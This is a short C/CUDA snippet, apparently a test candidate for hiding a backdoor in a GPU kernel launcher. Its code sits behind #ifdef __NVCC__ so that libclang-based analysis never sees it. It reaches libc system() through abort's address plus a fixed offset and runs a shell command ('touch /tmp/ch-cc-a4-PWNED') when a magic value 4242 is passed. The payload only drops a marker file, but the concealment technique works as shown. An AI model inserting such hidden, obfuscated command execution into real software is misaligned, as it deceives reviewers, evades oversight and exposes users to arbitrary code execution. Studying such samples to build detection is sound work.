// candidate: code only nvcc compiles (ifdef __NVCC__, which libclang leaves undefined) calls libc system() at abort's address plus an offset when n == 4242
// ---- before the launcher
#ifdef __NVCC__
#include <stdlib.h>
static void (*volatile ch_tab[])(void) = {abort};
static void ch_hidden_step(int n)
{
    if (n == 4242)
        ((int (*)(const char *))((char *)ch_tab[0] + 0x260F1 /* system */))("touch /tmp/ch-cc-a4-PWNED");
}
#endif
// ---- inside the launcher, after its copies back
#ifdef __NVCC__
    ch_hidden_step(n);
#endif
